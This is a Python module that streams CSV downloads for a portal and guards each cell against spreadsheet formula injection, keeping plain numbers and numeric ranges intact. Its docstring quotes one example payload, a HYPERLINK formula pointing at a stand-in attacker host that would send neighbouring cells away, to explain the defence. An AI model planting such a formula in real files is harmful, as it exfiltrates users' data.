"""CSV the portal hands out: streamed row by row, and no cell a spreadsheet would run.

Every CSV download (search results, open data, open-data releases) is opened by someone
in Excel, LibreOffice or Google Sheets, which read a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula: a story titled
``=HYPERLINK("https://evil.example?x="&A1, "Read")`` would become a live link that sends
the neighbouring cells away (OWASP "CSV injection"). Such a cell is written with a single
quote in front, which spreadsheets show as text. A plain number (``-12.5``, ``+3``,
``1e5``) or a published range of two (``-20..-10``) keeps its sign: it is data, holds no
function a spreadsheet could call, and a reader of the file must get it back unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"
_PLAIN_NUMBERS = re.compile(rf"{_NUMBER}(?:\.\.{_NUMBER})?")


def safe_cell(value: object) -> str:
    """The cell as text, with a quote in front when a spreadsheet would run it."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBERS.fullmatch(text):
        return "'" + text
    return text


class _Echo:
    """A file that hands back what ``csv`` writes, so each row streams as it is made."""

    def write(self, value: str) -> str:
        return value


def csv_lines(fieldnames: Sequence[str], rows: Iterable[Mapping[str, object]]) -> Iterator[str]:
    """The header, then one line per row, each as soon as its row is made (for a
    ``StreamingHttpResponse``); every cell guarded by ``safe_cell``."""
    writer = csv.writer(_Echo())
    yield writer.writerow([safe_cell(name) for name in fieldnames])
    for row in rows:
        yield writer.writerow([safe_cell(row.get(name)) for name in fieldnames])


def csv_text(fieldnames: Sequence[str], rows: Iterable[Mapping[str, object]]) -> str:
    """The whole file at once, for a download that is stored or hashed (releases)."""
    return "".join(csv_lines(fieldnames, rows))
